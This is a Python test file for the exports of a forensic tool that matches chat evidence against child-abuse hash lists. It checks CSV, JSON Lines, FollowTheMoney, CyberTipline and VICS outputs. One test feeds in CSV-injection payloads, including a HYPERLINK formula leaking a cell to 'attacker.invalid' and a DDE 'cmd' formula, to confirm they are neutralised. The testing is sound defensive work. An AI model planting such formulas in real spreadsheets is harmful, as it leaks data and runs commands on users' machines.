"""Exports other tools read (CSV, JSON Lines, FollowTheMoney, CyberTipline XML, VICS 2.0), on the
demo case, against SQLite and PostgreSQL.

The demo is generated once per session (as in ``test_demo_case``); each backend's case is
imported, hashed, matched against the demo lists with dihedral matching, and exported once per
module; the tests read the exports back and check them against the case.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from lxml import etree
from sqlalchemy import Connection, event, func, select

from conftest import BACKENDS
from pgdb import backend_url
from test_demo_case import Demo, demo, import_all, match_demo  # noqa: F401 (demo is a fixture)
from veilleur.analysis.exchanges import flagged_exchanges
from veilleur.case import Case, init_case
from veilleur.custody.audit import tail
from veilleur.demo.check import store_key
from veilleur.lists import LIST_TABLES, import_list
from veilleur.matching.results import FlaggedFile, Hit, current_run, flagged_files
from veilleur.outputs.exports import EXPORTERS, MANIFEST, ExportError, write_csv, write_vics
from veilleur.outputs.exports.cybertip import CHAT_CLIENT
from veilleur.outputs.exports.ftm import MEDIA_PLACEHOLDER
from veilleur.outputs.exports.tabular import TABLES
from veilleur.outputs.exports.vics import _media, most_severe
from veilleur.store.schema import (
    accounts,
    hash_list_entries,
    hash_list_versions,
    hash_list_vpdq_features,
    matches,
    media_hashes,
    media_pdq_dihedral,
    messages,
    video_frame_hashes,
)


@dataclass
class Exported:
    case: Case
    root: Path
    files: dict[str, list[Path]]  # exporter name -> the paths it returned
    statements: list[str]  # every SQL statement the exports ran


@pytest.fixture(scope="module", params=BACKENDS)
def matched(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    demo: Demo,  # noqa: F811
) -> Iterator[Case]:
    """The demo case imported, hashed and matched (dihedral), once per backend for this module."""
    with backend_url(request, request.param) as url:
        case = init_case(
            tmp_path_factory.mktemp(f"exports_{request.param}") / "case",
            name="export test",
            database_url=url,
            operator="tester",
        )
        try:
            import_all(case, demo)
            match_demo(case, demo, dihedral=True)
            yield case
        finally:
            case.close()


@pytest.fixture(scope="module")
def exported(matched: Case, tmp_path_factory: pytest.TempPathFactory) -> Exported:
    """Every registered export of the matched case, and the SQL they ran."""
    root = tmp_path_factory.mktemp("exports")
    statements: list[str] = []

    def spy(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        statements.append(statement)

    event.listen(matched.engine, "before_cursor_execute", spy)
    try:
        with matched.engine.connect() as conn:
            files = {name: e.write(conn, root / name) for name, e in EXPORTERS.items()}
    finally:
        event.remove(matched.engine, "before_cursor_execute", spy)
    return Exported(matched, root, files, statements)


def count(conn: Connection, table: Any, *where: Any) -> int:
    return int(conn.execute(select(func.count()).select_from(table).where(*where)).scalar_one())


# ------------------------------------------------------------------------------------------------
# The registry and the manifests


def test_registry_offers_every_format() -> None:
    assert list(EXPORTERS) == ["csv", "jsonl", "ftm", "cybertip", "vics"]
    for name, e in EXPORTERS.items():
        assert e.name == name
        assert e.description and "\n" not in e.description
        assert callable(e.write)


def test_every_export_has_a_manifest_that_verifies(exported: Exported) -> None:
    with exported.case.engine.connect() as conn:
        run_id = current_run(conn)
    assert run_id is not None
    for name, paths in exported.files.items():
        folder = exported.root / name
        assert paths[-1] == folder / MANIFEST
        manifest = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
        assert manifest["format"] == name
        assert manifest["matching_run_id"] == run_id
        assert manifest["veilleur_version"]
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", manifest["generated_at"])
        listed = {f["path"]: f for f in manifest["files"]}
        # Every file of the folder but the manifest is listed, and nothing else (no .part left).
        assert set(listed) == {p.name for p in folder.iterdir()} - {MANIFEST}
        assert [p.name for p in paths[:-1]] == [f["path"] for f in manifest["files"]]
        for f in manifest["files"]:
            data = (folder / f["path"]).read_bytes()
            assert hashlib.sha256(data).hexdigest() == f["sha256"], (name, f["path"])
            assert len(data) == f["size"]
        assert {x["name"] for x in manifest["matching_run"]["lists"]} >= {"Project VIC (demo)"}


def test_exports_never_overwrite(exported: Exported, tmp_path: Path) -> None:
    with exported.case.engine.connect() as conn:
        with pytest.raises(ExportError, match="already holds an export"):
            write_csv(conn, exported.root / "csv")
        # A folder holding one file of the same name: refused, and nothing half-written is left.
        (tmp_path / "accounts.csv").write_text("mine", encoding="utf-8")
        with pytest.raises(ExportError, match="never overwrites"):
            write_csv(conn, tmp_path)
    assert (tmp_path / "accounts.csv").read_text(encoding="utf-8") == "mine"
    assert [p.name for p in tmp_path.iterdir()] == ["accounts.csv"]


def test_exports_of_a_case_never_matched(case: Case, tmp_path: Path) -> None:
    with case.engine.connect() as conn:
        for name, e in EXPORTERS.items():
            paths = e.write(conn, tmp_path / name)
            manifest = json.loads(paths[-1].read_text(encoding="utf-8"))
            assert manifest["matching_run_id"] is None
    vics = json.loads((tmp_path / "vics" / "case.vics.json").read_text(encoding="utf-8"))
    assert vics["value"][0]["Media"] == []
    assert [p.name for p in (tmp_path / "cybertip").iterdir()] == [MANIFEST]
    with (tmp_path / "csv" / "exchanges.csv").open(encoding="utf-8", newline="") as f:
        assert list(csv.reader(f)) == [list(TABLES["exchanges"][0])]


# ------------------------------------------------------------------------------------------------
# No hash-list data anywhere


def _all_text(exported: Exported) -> str:
    return "\n".join(
        p.read_bytes().decode("utf-8").lower() for paths in exported.files.values() for p in paths
    )


def test_no_list_data_in_any_export(exported: Exported) -> None:
    with exported.case.engine.connect() as conn:
        listed = set(conn.execute(select(hash_list_entries.c.value)).scalars())
        listed |= set(conn.execute(select(hash_list_vpdq_features.c.pdq)).scalars())
        # The case's own hashes are case data: a byte-identical copy of a listed file has the
        # listed MD5, and its PDQ may equal the listed one. Every other list value must be absent.
        own = set()
        for row in conn.execute(
            select(media_hashes.c.md5, media_hashes.c.sha1, media_hashes.c.sha256, media_hashes.c.pdq)
        ):
            own.update(v for v in row if v)
        own |= set(conn.execute(select(media_pdq_dihedral.c.pdq)).scalars())
        own |= set(conn.execute(select(video_frame_hashes.c.pdq)).scalars())
        versions = conn.execute(
            select(hash_list_versions.c.file_path, hash_list_versions.c.file_sha256)
        ).all()
        series = set(
            conn.execute(
                select(hash_list_entries.c.series).where(hash_list_entries.c.series.is_not(None))
            ).scalars()
        )
    foreign = {v.lower() for v in listed - own}
    assert len(foreign) > 1000  # fillers, the PDQ of originals the case holds resized or mirrored, vPDQ
    text = _all_text(exported)
    tokens = set(re.findall(r"[0-9a-f]{32,}", text))
    assert tokens & foreign == set()
    assert not any(v in text for v in foreign if len(v) > 64)  # vPDQ canonical strings, if any
    for path, sha in versions:
        assert path.lower() not in text and sha.lower() not in text
    assert series and not any(s.lower() in text for s in series)
    # The values and frames of lists are never even read by an export.
    value_tables = {"hash_list_entries", "hash_list_vpdq_features"}
    assert value_tables <= LIST_TABLES
    assert [s for s in exported.statements if any(t in s for t in value_tables)] == []
    for paths in exported.files.values():
        assert not any(p.stem.split(".")[0] in LIST_TABLES for p in paths)


# ------------------------------------------------------------------------------------------------
# CSV and JSON Lines


def _csv_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    # RFC 4180: CRLF after every record (a bare LF may only appear inside a quoted field).
    assert data.endswith(b"\r\n")
    reader = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    header, *rows = list(reader)
    return header, [dict(zip(header, r, strict=True)) for r in rows]


def _jsonl_rows(path: Path) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in path.read_bytes().splitlines()]


FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")  # OWASP, CSV injection


def _as_cell(value: Any) -> str:
    """The CSV cell of a JSON Lines value: text a spreadsheet would run gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (list, dict)):
        return orjson.dumps(value).decode("utf-8")
    if isinstance(value, str) and value.startswith(FORMULA_FIRST):
        return "'" + value
    return str(value)


def test_csv_and_jsonl_hold_the_same_rows_with_their_headers(exported: Exported) -> None:
    csv_dir, jsonl_dir = exported.root / "csv", exported.root / "jsonl"
    for table, (columns, _) in TABLES.items():
        header, rows = _csv_rows(csv_dir / f"{table}.csv")
        assert header == list(columns)
        objects = _jsonl_rows(jsonl_dir / f"{table}.jsonl")
        assert [list(o) for o in objects] == [list(columns)] * len(objects)
        assert [{k: _as_cell(v) for k, v in o.items()} for o in objects] == rows, table
        manifest = json.loads((csv_dir / MANIFEST).read_text(encoding="utf-8"))
        assert {f["path"]: f["rows"] for f in manifest["files"]}[f"{table}.csv"] == len(rows)
        neutralised = sum(
            isinstance(v, str) and v.startswith(FORMULA_FIRST) for o in objects for v in o.values()
        )
        assert {f["path"]: f["neutralised_cells"] for f in manifest["files"]}[f"{table}.csv"] == neutralised
        assert manifest["formula_cells"] == "neutralised"


HOSTILE_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")'
HOSTILE_TEXTS = {
    1: "=1+1",
    2: "+41 is not a number here, it is a formula",
    3: "-2+3",
    4: "@SUM(1,2)",
    5: "\t=cmd|' /C calc'!A0",
    6: "\r=2*3",
    7: "an ordinary message = fine",
    8: "'already quoted",
}


def _hostile_export(root: Path) -> Path:
    """A one-chat export whose sender's name and messages a spreadsheet would run as formulas."""
    from veilleur.demo.tdesktop_json import JsonWriter, Message, Part, Peer

    root.mkdir(parents=True)
    sender = Peer("user", 7001, HOSTILE_NAME)
    other = Peer("user", 7002, "@Marie")
    buf = io.BytesIO()
    w = JsonWriter(buf, 0, single_chat=True)
    w.begin_dialog("private_group", 910, "-Groupe")
    for i, text in HOSTILE_TEXTS.items():
        who = sender if i % 2 else other
        w.write_message(Message(i, 1_700_000_000 + 60 * i, who, (Part("plain", text),)))
    w.end_dialog()
    w.finish()
    (root / "result.json").write_bytes(buf.getvalue())
    return root


def _by_message(path: Path) -> dict[str, dict[str, str]]:
    return {r["message_id"]: r for r in _csv_rows(path)[1]}


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_unless_raw_is_asked(
    case: Case, tmp_path: Path
) -> None:
    from click.testing import CliRunner

    from veilleur.cli import cli
    from veilleur.ingest.importer import ImportOptions, import_export

    import_export(case, _hostile_export(tmp_path / "export"), ImportOptions("tester"))
    with case.engine.connect() as conn:
        write_csv(conn, tmp_path / "safe")
        write_csv(conn, tmp_path / "raw", raw=True)

    safe = _by_message(tmp_path / "safe" / "messages.csv")
    raw = _by_message(tmp_path / "raw" / "messages.csv")
    for i, text in HOSTILE_TEXTS.items():
        risky = text[0] in "=+-@\t\r"
        assert safe[str(i)]["text"] == ("'" + text if risky else text), i
        assert raw[str(i)]["text"] == text, i
        # Names are case text too; numbers Veilleur writes are not touched.
        name = HOSTILE_NAME if i % 2 else "@Marie"
        assert (safe[str(i)]["sender_name"], raw[str(i)]["sender_name"]) == ("'" + name, name)
        assert safe[str(i)]["byte_offset"] == raw[str(i)]["byte_offset"]
        assert safe[str(i)]["byte_offset"].isdigit()
    accounts_csv = _csv_rows(tmp_path / "safe" / "accounts.csv")[1]
    (hostile,) = [r for r in accounts_csv if r["key"].endswith("7001")]
    assert json.loads(hostile["display_names"]) == [HOSTILE_NAME]  # a JSON cell begins with [
    safe_manifest = json.loads((tmp_path / "safe" / MANIFEST).read_text(encoding="utf-8"))
    raw_manifest = json.loads((tmp_path / "raw" / MANIFEST).read_text(encoding="utf-8"))
    assert (safe_manifest["formula_cells"], raw_manifest["formula_cells"]) == ("neutralised", "raw")
    counted = {f["path"]: f["neutralised_cells"] for f in safe_manifest["files"]}
    # The 6 risky texts and the 8 sender names.
    assert counted["messages.csv"] == 6 + 8
    assert all(f["neutralised_cells"] == 0 for f in raw_manifest["files"])
    assert any("apostrophe" in n for n in safe_manifest["notes"])

    # The same through the command line, the choice recorded in the export's audit entry.
    runner = CliRunner()
    base = ["--case", str(case.root), "--operator", "tester"]
    for flag, expected in (([], "'=1+1"), (["--raw-csv"], "=1+1")):
        out = tmp_path / f"cli{len(flag)}"
        result = runner.invoke(cli, [*base, "export", "csv", *flag, "--out", str(out)])
        assert result.exit_code == 0, result.output
        assert _by_message(out / "messages.csv")["1"]["text"] == expected
        with case.engine.connect() as conn:
            last = tail(conn, 1)[0]
        assert last.action == "export.csv"
        assert (last.details_value() or {})["formula_cells"] == ("raw" if flag else "neutralised")
    refused = runner.invoke(cli, [*base, "export", "jsonl", "--raw-csv", "--out", str(tmp_path / "j")])
    assert refused.exit_code != 0 and "only the csv format" in refused.output
    assert not (tmp_path / "j").exists()


def test_tables_match_the_case(exported: Exported, demo: Demo) -> None:  # noqa: F811
    folder = exported.root / "jsonl"
    with exported.case.engine.connect() as conn:
        run_id = current_run(conn)
        n_accounts = count(conn, accounts)
        n_messages = count(conn, messages)
        n_matches = count(conn, matches, matches.c.run_id == run_id)
        exchanges = flagged_exchanges(conn)
        keys = dict(conn.execute(select(accounts.c.id, accounts.c.key)).all())
        flagged = {f.sha256 for f in flagged_files(conn, include_suppressed=False)}

    rows = _jsonl_rows(folder / "accounts.jsonl")
    assert len(rows) == n_accounts
    me = next(r for r in rows if r["key"] == store_key(demo[1]["case"]["central_account_id"]))
    truth = demo[1]["case"]["accounts"][demo[1]["case"]["central_account_id"]]
    assert set(truth["names"]) <= set(me["display_names"])
    assert {u.lstrip("@") for u in truth["usernames"]} <= {u.lstrip("@") for u in me["usernames"]}

    rows = _jsonl_rows(folder / "messages.jsonl")
    assert len(rows) == n_messages
    assert all(r["evidence_id"] and re.fullmatch(r"[0-9a-f]{64}", r["evidence_sha256"]) for r in rows)
    assert all(r["byte_offset"] is not None or r["page"] for r in rows)
    deleted = sum(len(v) for v in demo[1]["case"]["possibly_deleted"].values())
    assert sum(r["possibly_deleted"] for r in rows) == deleted

    rows = _jsonl_rows(folder / "exchanges.jsonl")
    assert len(exchanges) >= 5
    assert len(rows) == sum(max(1, len(e.recipients)) for e in exchanges)  # one row per recipient
    for e in exchanges:
        mine = [r for r in rows if (r["chat_key"], r["message_id"]) == (e.chat_key, e.message_id)]
        expected = sorted(keys[p.account_id] for p in e.recipients) or [""]
        assert sorted(r["recipient_key"] or "" for r in mine) == expected
        assert {r["sender_key"] for r in mine} == {keys.get(e.sender_id or -1)}
        assert all(r["files"] == e.files and r["citation"] == e.citation for r in mine)
        assert all(r["setting"] == e.setting for r in mine)
        assert all(set(r["lists"]) == {h.list_name for h in e.hits} for r in mine)
    assert {sha for r in rows for sha in r["files"]} == flagged
    assert {r["setting"] for r in rows} >= {"private", "group"}
    group = [r for r in rows if r["setting"] == "group"]
    assert len(group) > 10 and all(r["recipient_basis"] for r in group)

    rows = _jsonl_rows(folder / "matches.jsonl")
    assert len(rows) == n_matches
    assert {r["list_kind"] for r in rows} == {"positive", "negative"}
    assert all(r["list_name"] and r["list_version"] == "1" for r in rows)
    suppressed = [r for r in rows if r["suppressed_by"] is not None]
    assert suppressed and all(r["suppressed_by_list"] == "Team negatives (demo)" for r in suppressed)
    vics = [r for r in rows if r["list_name"] == "Project VIC (demo)"]
    assert vics and {(r["entry_identifier"], r["category"]) for r in vics} == {("1", "1")}


# ------------------------------------------------------------------------------------------------
# FollowTheMoney: property names per schema, from the reference (FtM schema/*.yaml, section 4.1)

THING = {
    "name", "summary", "description", "country", "alias", "previousName", "weakAlias", "sourceUrl",
    "publisher", "publisherUrl", "alephUrl", "wikipediaUrl", "wikidataId", "keywords", "topics",
    "address", "addressEntity", "program", "programId", "notes", "proof", "indexText", "createdAt",
    "modifiedAt", "retrievedAt",
}  # fmt: skip
DOCUMENT = THING | {
    "contentHash", "title", "author", "generator", "crawler", "fileSize", "fileName", "extension",
    "encoding", "bodyText", "messageId", "mimeType", "language", "translatedLanguage",
    "translatedText", "date", "authoredAt", "publishedAt", "parent", "ancestors",
    "processingStatus", "processingError", "processingAgent", "processedAt",
}  # fmt: skip
INTERVAL = {"startDate", "endDate", "date", "summary", "description", "recordId", "sourceUrl", "publisher"}
FTM_PROPERTIES = {
    "LegalEntity": THING | {"email", "phone", "website", "legalForm", "status", "idNumber"},
    "UserAccount": THING
    | {"owner", "service", "email", "number", "phone", "username", "password", "ipAddress"},
    "Folder": DOCUMENT,
    "Message": DOCUMENT
    | INTERVAL
    | {"bodyHtml", "subject", "threadTopic", "sender", "senderAccount", "recipients", "recipientAccount"}
    | {"inReplyTo", "inReplyToMessage", "metadata"},
}
FTM_REQUIRED = {"UserAccount": {"username"}, "Message": {"bodyText", "sender"}, "LegalEntity": {"name"}}
FTM_RANGES = {
    "owner": "LegalEntity",
    "sender": "LegalEntity",
    "recipients": "LegalEntity",
    "senderAccount": "UserAccount",
    "recipientAccount": "UserAccount",
    "parent": "Folder",
    "inReplyToMessage": "Message",
}
FTM_ID = re.compile(r"^[0-9a-zA-Z]([0-9a-zA-Z\.\-]*[0-9a-zA-Z])?$")  # followthemoney types/entity.py


def test_ftm_entities_follow_the_schemata(exported: Exported) -> None:
    [path] = [p for p in exported.files["ftm"] if p.name != MANIFEST]
    entities = _jsonl_rows(path)
    by_id = {e["id"]: e for e in entities}
    assert len(by_id) == len(entities)
    for e in entities:
        assert set(e) == {"id", "schema", "properties"}
        assert FTM_ID.fullmatch(e["id"]) and len(e["id"]) <= 200
        props = e["properties"]
        assert set(props) <= FTM_PROPERTIES[e["schema"]], (
            e["schema"],
            set(props) - FTM_PROPERTIES[e["schema"]],
        )
        assert FTM_REQUIRED.get(e["schema"], set()) <= set(props), e
        for name, values in props.items():
            assert values and all(isinstance(v, str) and v for v in values)
            if name in FTM_RANGES:
                assert all(by_id[v]["schema"] == FTM_RANGES[name] for v in values), (e["id"], name)
        for d in props.get("date", []):
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", d)
        for m in props.get("metadata", []):
            json.loads(m)
    kinds = [e["schema"] for e in entities]
    with exported.case.engine.connect() as conn:
        exchanges = flagged_exchanges(conn)
        n_accounts = count(conn, accounts)
        texts = dict(conn.execute(select(messages.c.id, messages.c.text)).all())
    assert kinds.count("UserAccount") == n_accounts
    assert kinds.count("Message") == len(exchanges)
    assert kinds.count("Folder") == len({e.chat_id for e in exchanges})
    bodies = sorted(e["properties"]["bodyText"][0] for e in entities if e["schema"] == "Message")
    assert bodies == sorted(texts[x.message_pk] or MEDIA_PLACEHOLDER for x in exchanges)
    assert MEDIA_PLACEHOLDER in bodies
    group = next(x for x in exchanges if x.setting == "group")
    message = next(
        e
        for e in entities
        if e["schema"] == "Message"
        and e["properties"]["messageId"] == [f"{group.chat_key}/{group.message_id}"]
    )
    assert len(message["properties"]["recipientAccount"]) == len(group.recipients)


# ------------------------------------------------------------------------------------------------
# CyberTipline: element names and order from the published schema (reference section 6.1, as
# generated from GET /xsd into Boostport/ncmec-go cybertipline/types.go)

CT_CHILDREN: dict[str, list[str]] = {
    "report": [
        "batchedReport", "incidentSummary", "internetDetails", "lawEnforcement", "reporter",
        "personOrUserReported", "intendedRecipient", "victim", "additionalInfo",
    ],
    "incidentSummary": [
        "incidentType", "platform", "escalateToHighPriority", "reportAnnotations", "incidentDateTime",
        "incidentDateTimeDescription",
    ],
    "internetDetails": [
        "webPageIncident", "emailIncident", "newsgroupIncident", "chatImIncident", "onlineGamingIncident",
        "cellPhoneIncident", "nonInternetIncident", "peer2peerIncident",
    ],
    "chatImIncident": ["chatClient", "chatRoomName", "content", "additionalInfo"],
    "personOrUserReported": [
        "personOrUserReportedPerson", "vehicleDescription", "espIdentifier", "espService",
        "compromisedAccount", "screenName", "displayName", "profileUrl", "profileBio", "ipCaptureEvent",
        "deviceId", "thirdPartyUserReported", "priorCTReports", "groupIdentifier",
        "accountTemporarilyDisabled", "accountPermanentlyDisabled", "estimatedLocation",
        "allEmailsReported", "associatedAccount", "additionalInfo",
    ],
    "associatedAccount": [
        "platform", "firstName", "middleName", "lastName", "approximateAge", "dateOfBirth", "phone", "email",
        "allEmailsReported", "address", "espService", "espIdentifier", "profileUrl", "screenName",
        "displayName", "profileBio", "groupIdentifier", "compromisedAccount", "accountTemporarilyDisabled",
        "accountPermanentlyDisabled", "ipCaptureEvent", "deviceId", "priorCTReport", "additionalInfo",
    ],
}  # fmt: skip
CT_SINGLE = {"groupIdentifier", "screenName", "espIdentifier", "incidentSummary", "personOrUserReported"}
ASSOCIATED_TYPES = {"Billing", "Linked", "Business", "Creator", "Parent", "Guardian", "Other"}


def _check_element(el: etree._Element) -> None:
    children = [c for c in el if isinstance(c.tag, str)]
    if el.tag not in CT_CHILDREN:
        assert children == [], f"{el.tag} is a leaf in this export"
        assert el.text and el.text.strip(), el.tag
        return
    allowed = CT_CHILDREN[el.tag]
    names = [c.tag for c in children]
    assert set(names) <= set(allowed), (el.tag, set(names) - set(allowed))
    assert names == sorted(names, key=allowed.index), f"{el.tag}: children out of the schema's order"
    for single in CT_SINGLE:
        assert names.count(single) <= 1, (el.tag, single)
    for c in children:
        _check_element(c)


def test_cybertip_sections_use_the_schema_elements(exported: Exported) -> None:
    with exported.case.engine.connect() as conn:
        exchanges = flagged_exchanges(conn)
        info = {
            r.id: r for r in conn.execute(select(accounts.c.id, accounts.c.key, accounts.c.peer_id)).all()
        }
    senders = {e.sender_id for e in exchanges if e.sender_id is not None}
    manifest = json.loads((exported.root / "cybertip" / MANIFEST).read_text(encoding="utf-8"))
    assert sorted(manifest["accounts"].values()) == sorted(info[i].key for i in senders)
    for name, key in manifest["accounts"].items():
        raw = (exported.root / "cybertip" / name).read_bytes()
        root = etree.fromstring(raw)  # well formed, or this raises
        assert root.tag == "report"
        _check_element(root)
        comments = " ".join(c.text for c in root.iter(etree.Comment))
        assert "fileDetails" in comments and "whoever holds the files" in comments
        assert not root.findall(".//fileDetails")
        account = next(i for i in senders if info[i].key == key)
        person = root.find("personOrUserReported")
        assert person is not None
        assert person.findtext("espIdentifier") == str(info[account].peer_id)
        assert person.findtext("espService") == CHAT_CLIENT
        sent = [e for e in exchanges if e.sender_id == account]
        incidents = root.findall("internetDetails/chatImIncident")
        assert len(incidents) == len({e.chat_id for e in sent})
        assert all(i.findtext("chatClient") == CHAT_CLIENT for i in incidents)
        content = "\n".join(i.findtext("content") or "" for i in incidents)
        assert all(f"message {e.message_id} " in content for e in sent)
        assert all(sha in content for e in sent for sha in e.files)
        for assoc in person.findall("associatedAccount"):
            assert assoc.get("type") in ASSOCIATED_TYPES
        if any(e.setting == "group" for e in sent):
            assert person.findtext("groupIdentifier")
    # The central account sends in private chats to three people and is linked to more.
    central = max(senders, key=lambda i: sum(e.sender_id == i for e in exchanges))
    name = next(n for n, k in manifest["accounts"].items() if k == info[central].key)
    person = etree.fromstring((exported.root / "cybertip" / name).read_bytes()).find("personOrUserReported")
    assert person is not None
    assert person.findtext("screenName")
    assert len(person.findall("associatedAccount")) >= 3


# ------------------------------------------------------------------------------------------------
# VICS 2.0


def test_vics_case_file_holds_the_flagged_files_and_reimports_as_a_list(
    exported: Exported, tmp_path: Path
) -> None:
    path = exported.root / "vics" / "case.vics.json"
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["@odata.context"].endswith("/2.0.xml/US/$metadata#Cases")
    [case_entry] = doc["value"]
    media = case_entry["Media"]
    with exported.case.engine.connect() as conn:
        files = {f.sha256: f for f in flagged_files(conn, include_suppressed=False)}
        own = {r.sha256: r for r in conn.execute(select(media_hashes)).all()}
    assert len(media) == len(files)
    allowed = {"MediaID", "Category", "MD5", "SHA1", "AlternativeHashes", "RelativeFilePath", "Comments"}
    expected: set[tuple[str, str]] = set()
    for m in media:
        assert set(m) <= allowed
        alt = {a["HashName"]: a["HashValue"] for a in m["AlternativeHashes"]}
        row = own[alt["SHA256"]]
        assert (m["MD5"].lower(), m["SHA1"].lower(), alt.get("PDQ")) == (row.md5, row.sha1, row.pdq)
        assert "/" not in m.get("RelativeFilePath", "x")[:1] and ".." not in m.get("RelativeFilePath", "")
        categories = files[row.sha256].categories
        assert m.get("Category") == (int(min(categories)) if categories else None)
        expected |= {("md5", row.md5), ("sha1", row.sha1), ("sha256", row.sha256)}
        if row.pdq:
            expected.add(("pdq", row.pdq))
    assert any(m.get("Category") == 1 for m in media)
    assert (
        sum("PDQ" in {a["HashName"] for a in m["AlternativeHashes"]} for m in media) == len(media) - 1
    )  # the video

    # Round trip: the file imports into Veilleur as a list, with the same hashes and categories.
    other = init_case(tmp_path / "other", name="recipient", operator="tester")
    try:
        report = import_list(other, path, name="Exported case", operator="tester", kind="positive")
        assert report.format == "vics"
        with other.engine.connect() as conn:
            entries = conn.execute(
                select(
                    hash_list_entries.c.hash_type,
                    hash_list_entries.c.value,
                    hash_list_entries.c.category,
                    hash_list_entries.c.external_id,
                )
            ).all()
    finally:
        other.close()
    assert {(e.hash_type, e.value) for e in entries} == expected
    by_id = {m["MediaID"]: m.get("Category") for m in media}
    assert all(by_id[int(e.external_id)] == (int(e.category) if e.category else None) for e in entries)


def _hit(list_name: str, category: str | None) -> Hit:
    return Hit(list_name, 1, 1, "x", category, "md5", "exact", 0, None, None, None, None, None, None, "t")


def test_vics_gives_the_most_severe_category_and_says_so() -> None:
    assert most_severe(["2", "1", "0"], "us") == "1"
    assert most_severe(["0"], "us") == "0"
    assert most_severe(["3", "2"], "us") == "2"
    assert most_severe([], "us") is None
    assert most_severe(["C", "a", "B"], "uk") == "A"
    f = FlaggedFile(
        "ab" * 32, [_hit("VIC US", "2"), _hit("Other US", "1"), _hit("UK list", "A"), _hit("PDQ", None)]
    )
    schemes = {"VIC US": "us", "Other US": "us", "UK list": "uk", "PDQ": "us"}
    media, disagree = _media(1, f, None, schemes, "us")
    assert disagree and media["Category"] == 1
    assert "Other US: 1" in media["Comments"] and "VIC US: 2" in media["Comments"]
    assert "UK list (uk): A" in media["Comments"]
    media, disagree = _media(1, FlaggedFile("cd" * 32, [_hit("VIC US", "3")]), None, schemes, "us")
    assert not disagree and media["Category"] == 3 and "Comments" not in media
    with pytest.raises(ExportError):
        write_vics(None, Path("unused"), scheme="custom")  # type: ignore[arg-type]
